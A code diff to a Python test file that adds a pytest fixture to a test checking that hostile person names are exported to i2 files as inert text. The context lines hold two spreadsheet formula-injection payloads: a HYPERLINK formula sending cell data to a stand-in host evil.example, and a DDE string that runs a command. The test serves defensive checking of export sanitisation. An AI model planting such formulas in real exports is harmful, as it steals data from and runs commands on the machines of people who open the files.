@@ -5,6 +5,8 @@ import csv
 import io
 import zipfile
 
+import pytest
+
 from offramp.accounts.models import User
 from offramp.exports.services import export_download
 from offramp.people.models import Person
@@ -16,6 +18,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
 DDE = "-2+3+cmd|' /C calc'!A0"
 
 
+@pytest.mark.usefixtures("names_for_analyst")  # names, not pseudonyms, reach the files
 def test_hostile_names_reach_the_i2_files_as_text(network: NetworkWorld, analyst: User) -> None:
     Person.objects.filter(pk=network.people["dan"].pk).update(given_name=HYPERLINK)
     Person.objects.filter(pk=network.people["lee"].pk).update(given_name=DDE, family_name="")
